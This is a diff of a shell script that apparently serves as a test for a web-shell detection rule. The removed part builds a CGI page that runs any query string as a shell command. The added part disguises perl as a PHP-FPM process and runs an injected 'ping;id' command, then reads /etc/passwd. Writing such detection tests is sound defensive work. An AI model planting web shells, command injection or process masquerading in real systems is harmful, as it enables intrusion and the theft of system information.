@@ -1,15 +1,7 @@
 #!/bin/sh
-# A page of a web server runs commands for whoever asks.
-# expects: execution_web_server_shell 3
+# A hole in a web application runs commands for whoever asks.
+# The server is a copy of Perl that starts shells as PHP does.
+# expects: execution_web_server_shell 4
 
-mkdir /srv/www/cgi-bin
-cat > /srv/www/cgi-bin/status.sh << 'PAGE'
-#!/bin/sh
-printf 'Content-Type: text/plain\n\n'
-sh -c "$QUERY_STRING"
-PAGE
-chmod +x /srv/www/cgi-bin/status.sh
-httpd -p 127.0.0.1:8080 -h /srv/www
-for command in id whoami uname; do
-  wget -q -O- "http://127.0.0.1:8080/cgi-bin/status.sh?$command"
-done
+cp /usr/bin/perl /opt/php-fpm8.2
+/opt/php-fpm8.2 -e 'system("ping -c 1 127.0.0.1;id 2>&1"); system("cd /; uname -a"); system("cd /; ls -la /"); system("cd /; cat /etc/passwd");'
